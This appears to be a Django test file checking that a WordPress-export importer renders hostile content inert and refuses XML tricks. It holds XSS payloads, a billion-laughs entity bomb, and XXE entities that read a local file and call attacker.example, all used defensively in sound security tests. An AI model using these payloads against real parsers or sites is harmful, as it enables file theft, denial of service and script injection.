"""Hostile exports: their content is inert, their XML tricks refused, nothing fetched."""

import tempfile
from pathlib import Path
from unittest import mock

from django.core.management.base import CommandError
from django.test import TestCase

from blog.models import Article
from comments.models import Comment
from tests.blog.test_admin import FORBIDDEN, HOSTILE_BODIES
from tests.wordpress.helpers import HEAD, comment, export, item, run


class HostileContentTests(TestCase):
    def test_hostile_bodies_are_inert_once_imported(self):
        items = [item(n, slug=f"hostile-{n}", content=body)
                 for n, body in enumerate(HOSTILE_BODIES.values(), start=1)]  # fmt: skip
        run(export(*items))
        for article in Article.objects.all():
            with self.subTest(article.slug):
                for forbidden in FORBIDDEN:
                    self.assertNotIn(forbidden, article.body_html)
                page = self.client.get(article.get_absolute_url()).content.decode()
                self.assertNotIn("alert(1)", page)

    def test_hostile_titles_excerpts_and_comments_are_text(self):
        run(
            export(
                item(1, slug="t", title="<script>alert(1)</script>Title",
                     excerpt='<img src=x onerror="alert(1)">Lead',
                     comments=[comment(1, '<a href="javascript:alert(1)">click</a>'
                                          "<script>alert(2)</script>",
                                       name="<b onmouseover=alert(3)>Eve</b>",
                                       url="javascript:alert(4)")]),
            )
        )  # fmt: skip
        page = self.client.get("/articles/t/").content.decode()
        for forbidden in ["<script>alert", "onerror", "onmouseover", "javascript:"]:
            self.assertNotIn(forbidden, page)
        stored = Comment.objects.get()
        self.assertEqual(stored.website, "")
        self.assertNotIn("<a", stored.body_html)


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""


class HostileXMLTests(TestCase):
    def test_an_xml_bomb_is_refused_before_any_expansion(self):
        data = export(item(1, title="&lol4;"))
        data = BOMB + data.split(b"\n", 1)[1]
        with self.assertRaises(CommandError) as raised:
            run(data)
        self.assertIn("line 2: the file declares a DTD", str(raised.exception))
        self.assertFalse(Article.objects.exists())

    def test_an_external_entity_is_refused_and_never_read(self):
        with tempfile.TemporaryDirectory() as folder:
            secret = Path(folder) / "secret.txt"
            secret.write_text("TOP-SECRET")
            doctype = (
                f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">'
                '<!ENTITY net SYSTEM "http://attacker.example/x">]>\n'
            ).encode()
            data = doctype + export(item(1, title="&xxe;&net;")).split(b"\n", 1)[1]
            with (
                mock.patch("urllib.request.urlopen") as urlopen,
                mock.patch("socket.create_connection") as connect,
                self.assertRaises(CommandError) as raised,
            ):
                run(data)
        self.assertIn("refused", str(raised.exception))
        urlopen.assert_not_called()
        connect.assert_not_called()
        self.assertFalse(Article.objects.exists())

    def test_a_dtd_without_entities_is_refused_too(self):
        head = HEAD.format(v="1.2", site="https://a.example", language="en").split("\n", 1)[1]
        data = (
            '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">\n'
            + head
            + "</channel></rss>"
        )
        with self.assertRaisesMessage(CommandError, "line 2: the file declares a DTD"):
            run(data.encode())
